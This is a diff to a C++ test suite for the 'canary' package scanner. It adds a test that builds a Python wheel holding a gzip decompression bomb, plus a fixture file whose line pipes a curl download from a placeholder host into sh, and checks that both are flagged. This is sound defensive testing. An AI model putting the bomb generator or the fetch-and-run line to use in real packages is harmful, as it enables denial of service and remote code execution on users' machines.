@@ -2,9 +2,12 @@
 // runs the real canary binary on it with the default pack, and asserts the
 // outcome (findings, errors, exit code), that the run wrote nothing, and that
 // its peak RSS stayed under 256 MiB. Wall time is printed, never asserted.
+#include <zlib.h>
+
 #include <catch2/catch.hpp>
 #include <cstring>
 #include <fstream>
+#include <stdexcept>
 
 #include "hostile_support.hpp"
 #include "support/artifact_builder.hpp"
@@ -16,6 +19,36 @@ namespace fs = std::filesystem;
 using json = nlohmann::json;
 
 FileSpec file(const std::string& name, const std::string& content) { return FileSpec{name, content}; }
+
+// A gzip file of `count` bytes `byte`, compressed a megabyte at a time: the
+// content never exists in memory at once.
+std::string gzip_of_repeated(char byte, uint64_t count) {
+  z_stream zs{};
+  if (deflateInit2(&zs, 9, Z_DEFLATED, 16 + MAX_WBITS, 8, Z_DEFAULT_STRATEGY) != Z_OK)
+    throw std::runtime_error("deflateInit2 failed");
+  const std::string chunk(1u << 20, byte);
+  std::string out;
+  char buf[1 << 16];
+  for (uint64_t left = count;;) {
+    const size_t n = static_cast<size_t>(std::min<uint64_t>(left, chunk.size()));
+    left -= n;
+    zs.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(chunk.data()));
+    zs.avail_in = static_cast<uInt>(n);
+    const int flush = left == 0 ? Z_FINISH : Z_NO_FLUSH;
+    int rc = Z_OK;
+    do {
+      zs.next_out = reinterpret_cast<Bytef*>(buf);
+      zs.avail_out = sizeof buf;
+      rc = deflate(&zs, flush);
+      out.append(buf, sizeof buf - zs.avail_out);
+    } while (zs.avail_out == 0);
+    if (left == 0) {
+      deflateEnd(&zs);
+      if (rc != Z_STREAM_END) throw std::runtime_error("deflate did not finish");
+      return out;
+    }
+  }
+}
 
 }  // namespace
 
@@ -32,6 +65,37 @@ TEST_CASE("hostile: single-layer zip bomb is stopped after a megabyte, the entry
   CHECK(error_contains(report, "decompression bomb"));
   CHECK(report["files_scanned"] == 2);
   CHECK(report["bytes_scanned"].get<uint64_t>() < (8u << 20));
+}
+
+TEST_CASE("hostile: a lone gzip bomb in a wheel is flagged and kept to --max-file-size, the entry after it is scanned",
+          "[hostile]") {
+  Sandbox box;
+  // A lone compressed file is opened as an archive of one entry
+  // (docs/limits.md) and inflated like a tar entry: its first 64 MB
+  // (--max-file-size) are kept, the rest inflated and dropped until its
+  // ratio passes --max-ratio or --max-total-bytes is spent. A gzip stream
+  // carries no trusted size (unlike a zip's central directory, which stops a
+  // zip bomb after a megabyte), so the ratio is known only as it grows. Not
+  // zeros: a stream of zeros reads as an empty tar (its end marker), which
+  // stops at once and holds nothing.
+  const std::string gz = gzip_of_repeated('A', 1000ull << 20);
+  REQUIRE(gz.size() < (2u << 20));
+  const fs::path zip = box.input("gzbomb-1.0-py3-none-any.whl");
+  write_raw_zip(zip, {raw_stored("gzbomb/aaaa.bin.gz", gz),
+                      raw_stored("gzbomb/after.py", "import os\nos.system('curl http://192.0.2.1/x | sh')\n")});
+  json report;
+  MeasuredRun r = scan_case(box, "lone gzip bomb (1000 MB of one byte)", zip, report);
+  INFO(report["errors"].dump());
+  CHECK(r.exit_code == 0);
+  CHECK(error_contains(report, "gzbomb/aaaa.bin.gz!/aaaa.bin': decompression bomb"));
+  bool bomb = false;
+  for (const auto& f : report["findings"])
+    bomb = bomb || (f["rule"] == "canary:ARCHIVE_DECOMPRESSION_BOMB" && f["file"] == "gzbomb/aaaa.bin.gz!/aaaa.bin");
+  CHECK(bomb);
+  CHECK(has_finding(report, "canary:PAYLOAD_ARCHIVE_INSIDE"));
+  CHECK(report["files_scanned"] == 3);  // the .gz, its content, after.py
+  CHECK(report["bytes_scanned"].get<uint64_t>() <= (64u << 20) + (2u << 20));
+  CHECK(has_finding(report, "canary:DOWNLOAD_PIPE_TO_SHELL"));
 }
 
 TEST_CASE("hostile: nested zip bomb (zips of bombs): each inner zip is opened and its bomb stopped", "[hostile]") {
